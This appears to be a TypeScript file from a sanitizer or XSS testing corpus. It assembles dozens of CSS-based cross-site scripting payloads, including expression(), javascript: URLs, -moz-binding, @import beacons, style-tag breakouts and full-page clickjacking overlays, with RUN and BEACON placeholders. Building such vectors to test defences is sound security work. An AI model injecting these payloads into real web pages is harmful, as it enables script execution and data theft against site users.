import { insertRoundRobin, spelled, type Vector } from "../fragment.ts";

const declarations = [
  "width:expression(RUN)",
  "xss:expr/**/ession(RUN)",
  "x:\\65xpression(RUN)",
  "background:url(javascript:RUN)",
  "background-image:url('javascript:RUN')",
  "background:url(http:BEACON/x.svg)",
  "list-style-image:url(javascript:RUN)",
  "behavior:url(http:BEACON)",
  "-moz-binding:url(http:BEACON#x)",
  "content:url('data:image/svg+xml,<svg onload=RUN>')",
  "cursor:url(javascript:RUN),auto",
  "filter:url('http:BEACON#x')",
  "-webkit-mask:url(javascript:RUN)",
  "--x:url(javascript:RUN);background:var(--x)",
  "@import 'http:BEACON'",
];

const attributes = insertRoundRobin(
  [`<p style="@" onclick=RUN>x</p>`, `<table style="@" onmouseover=RUN><tr><td>x`],
  declarations,
);

const sheets = insertRoundRobin(
  [`<style>*{@}</style><img src=x: onerror=RUN>`, `<svg><style>*{@}</style></svg><svg onload=RUN>`],
  declarations.filter((one) => !one.includes("'")),
);

const others: Vector[] = [
  `<style>@import "http:BEACON";</style>`,
  `<style>@import url(http:BEACON);</style>`,
  `<style>@\\69mport "http:BEACON";</style>`,
  `<style>@import'http:BEACON'layer(x)supports(display:grid);</style>`,
  `<style>@font-face{font-family:x;src:url(http:BEACON)}p{font-family:x}</style><p>x</p>`,
  `<style>@namespace url(javascript:RUN);</style><img src=x: onerror=RUN>`,
  `<style><!--</style><script>RUN//--></script>`,
  `<style></style\n><script>RUN</script>`,
  `<style>p{color:red}</style\t/><img src=x: onerror=RUN>`,
  `<style type="text/javascript">RUN</style><script>RUN</script>`,
  `<style>p:before{content:"</style><script>RUN</script>"}</style>`,
  `<style media=x onload=RUN></style>`,
  `<style nonce=x onload=RUN>p{}</style>`,
  (run) => `<p style="${spelled.css(`width:expression(${run})`)}" onclick=${run}>x</p>`,
  (run) =>
    `<p style="${spelled.decimal("background:url(javascript:")}${run})" onclick=${run}>x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;animation:x 1s" onclick=RUN>x</p>`,
  `<a style="position:fixed;inset:0" href="javascript:RUN">x</a>`,
  `<p class="fixed inset-0 z-50" onclick=RUN>x</p>`,
  `<font color=red onclick=RUN size="7;x:expression(RUN)">x</font>`,
  `<link rel=stylesheet href="data:text/css,p{background:url(javascript:RUN)}" onload=RUN>`,
];

export const styles: Vector[] = [...attributes, ...sheets, ...others];
